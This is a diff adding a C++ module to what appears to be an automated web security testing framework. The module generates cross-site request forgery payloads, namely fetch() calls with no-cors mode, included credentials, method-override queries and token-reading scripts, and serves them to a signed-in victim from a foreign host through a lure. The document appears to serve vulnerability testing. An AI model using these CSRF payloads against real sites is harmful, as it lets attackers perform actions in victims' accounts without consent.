@@ -1,0 +1,59 @@
+// csrf-fetch: requests of a script on another origin. What is "simple" is sent without a question
+// and acted upon although nobody may read the answer; what is not, such as JSON or PATCH, needs a
+// preflight that says yes, and then even the token can be read first (Fetch, "CORS protocol").
+#include "core/attack/every_agent.h"
+#include "core/attack/lure.h"
+#include "core/attack/page_script.h"
+
+namespace parapet::attack {
+namespace {
+
+constexpr std::string_view kForm = "application/x-www-form-urlencoded";
+constexpr std::string_view kJson = "application/json";
+
+class CsrfFetch final : public Agent {
+    void run(Target& target) override {
+        OwnHost* evil = foreign_host(target);
+        if (evil == nullptr) return;
+        std::vector<std::string> scripts;
+        for (Endpoint const* each : unsafe_endpoints(target))
+            add_scripts(scripts, target, *each, look_at_form(target, *each, As::Attacker));
+        if (scripts.empty() || !victim_signs_in(target)) return;
+        target.wait(std::chrono::minutes(3));
+        Lure lure(target, *evil);
+        for (std::string const& each : scripts) lure.show("<script>" + each + "</script>");
+        target.note("A script on " + evil->name() + " sent requests with the victim's cookies.");
+    }
+
+    static void add_scripts(std::vector<std::string>& to, Target const& target,
+                            Endpoint const& endpoint, OwnForm const& own) {
+        std::string const address = address_of(target, endpoint);
+        std::string const overridden = address + "?_method=" + endpoint.method;
+        auto const fields = wanted_fields(endpoint);
+        std::string const form = http::serialize_query(fields);
+        std::string const json = json_object(fields);
+        bool const is_post = endpoint.method == "POST";
+        std::string const& simple = is_post ? address : overridden;
+        to.push_back(simple_fetch(simple, form, kForm) + ";" + simple_fetch(simple, json, ""));
+        to.push_back(fetch_script(endpoint.method, address, kJson, script_string(json)));
+        if (!is_post)
+            to.push_back(fetch_script(endpoint.method, address, kForm, script_string(form)));
+        if (!own.before_token.empty()) to.push_back(act_script(target, endpoint, own));
+    }
+
+    // A body of type text is sent as text/plain.
+    static std::string simple_fetch(std::string const& address, std::string const& body,
+                                    std::string_view type) {
+        std::string const headers =
+            type.empty() ? "" : ",headers:{\"content-type\":\"" + std::string(type) + "\"}";
+        return "fetch(" + script_string(address) +
+               ",{method:\"POST\",mode:\"no-cors\",credentials:\"include\"" + headers +
+               ",body:" + script_string(body) + "})";
+    }
+};
+
+}  // namespace
+
+std::unique_ptr<Agent> make_csrf_fetch() { return std::make_unique<CsrfFetch>(); }
+
+}  // namespace parapet::attack
